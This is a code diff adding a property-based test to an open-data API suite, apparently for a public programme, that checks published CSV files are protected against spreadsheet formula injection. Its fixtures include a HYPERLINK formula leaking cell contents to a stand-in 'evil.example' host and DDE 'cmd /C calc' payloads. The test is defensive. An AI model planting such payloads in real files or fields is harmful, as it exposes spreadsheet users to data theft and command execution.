@@ -1,6 +1,7 @@
 // Open data and the public JSON API: what is published matches the programme's rows, filters and pages
 // work, bad parameters answer 400, and nothing personal or unpublished ever leaks — checked by planting
 // recognisable strings wherever personal or private text lives and searching every answer for them.
+import fc from "fast-check";
 import { sql } from "kysely";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { db } from "../../app/server/connections.server";
@@ -9,6 +10,7 @@ import { loader as pilotsApi } from "../../app/routes/api.pilots";
 import { loader as fileLoader } from "../../app/routes/open-data.$file";
 import { loader as docsLoader } from "../../app/routes/open-data._index";
 import { addMember, createChallenge, createOrg, createProposal, createUser } from "../support/factories";
+import { FORMULA_START, parseCsv } from "../support/csv";
 import { call, getRequest } from "../support/requests";
 import { startAppServer } from "../support/server";
 
@@ -378,5 +380,52 @@ describe("over HTTP, through the production build", () => {
     const html = await docs.text();
     expect(html).toContain("Open Government Licence v3.0");
     for (const f of FILES) expect(html).toContain(`/open-data/${f}`);
+  });
+  it("no cell of any CSV begins with a formula, whatever is typed into the names and titles it publishes (fast-check)", async () => {
+    // Text people type that the CSV files publish, and the columns that are numbers (written as numbers).
+    const PLACES = [["kpis", "name"], ["kpis", "unit"], ["pilots", "title"], ["challenges", "title"], ["challenges", "summary"],
+      ["organisations", "name"], ["themes", "name"], ["areas", "name"], ["in_kind_types", "name"]] as const;
+    const NUMERIC = new Set(["funding_gbp", "pilot_weeks", "budget_gbp", "baseline", "target", "value"]);
+    const CSVS = FILES.filter((f) => f.endsWith(".csv"));
+    const before = await Promise.all(PLACES.map(([table, column]) => sql<{ id: string; v: string }>`SELECT id, ${sql.ref(column)} AS v FROM ${sql.table(table)}`.execute(db())));
+    const kpi = await db().selectFrom("kpis").select(["id", "baseline"]).where("name", "=", "Residents reached").executeTakeFirstOrThrow();
+    const payload = fc.oneof(
+      fc.constantFrom("=HYPERLINK(\"https://evil.example/?\"&A1,\"Report\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "x\r=1+1"),
+      fc.tuple(fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", "\"", ","), fc.string({ maxLength: 20 })).map(([a, b]) => a + b),
+    );
+    try {
+      // A negative baseline is a number, and stays one.
+      await db().updateTable("kpis").set({ baseline: -5 }).where("id", "=", kpi.id).execute();
+      await fc.assert(fc.asyncProperty(fc.tuple(...PLACES.map(() => payload)), async (typed) => {
+        for (const [i, [table, column]] of PLACES.entries()) {
+          // Every row of the table gets the text (numbered after it: some names are unique).
+          await sql`UPDATE ${sql.table(table)} SET ${sql.ref(column)} = ${typed[i]!} || row_number FROM
+            (SELECT id AS rid, row_number() OVER () AS row_number FROM ${sql.table(table)}) n WHERE id = n.rid`.execute(db());
+        }
+        for (const name of CSVS) {
+          const res = await fetch(`${app.url}/open-data/${name}`);
+          expect(res.status).toBe(200);
+          const [header, ...rows] = parseCsv(await res.text());
+          for (const row of rows) {
+            expect(row, name).toHaveLength(header!.length);
+            row.forEach((cell, c) => {
+              if (NUMERIC.has(header![c]!)) expect(cell === "" || Number.isFinite(Number(cell)), `${name} ${header![c]}: ${cell}`).toBe(true);
+              else expect(cell, `${name} ${header![c]}`).not.toMatch(FORMULA_START);
+            });
+          }
+        }
+        const kpis = parseCsv(await (await fetch(`${app.url}/open-data/kpis.csv`)).text());
+        const reached = kpis.find((r) => r[0] === kpi.id)!;
+        // What was typed is there, as text: behind a quote when a spreadsheet would have run it.
+        const shown = reached[2]!;
+        expect(shown.startsWith(`'${typed[0]}`) || (!FORMULA_START.test(typed[0]!) && shown.startsWith(typed[0]!)), shown).toBe(true);
+        expect(reached[4]).toBe("-5");
+      }), { numRuns: 15 });
+    } finally {
+      for (const [i, [table, column]] of PLACES.entries()) {
+        for (const row of before[i]!.rows) await sql`UPDATE ${sql.table(table)} SET ${sql.ref(column)} = ${row.v} WHERE id = ${row.id}`.execute(db());
+      }
+      await db().updateTable("kpis").set({ baseline: kpi.baseline }).where("id", "=", kpi.id).execute();
+    }
   });
 });
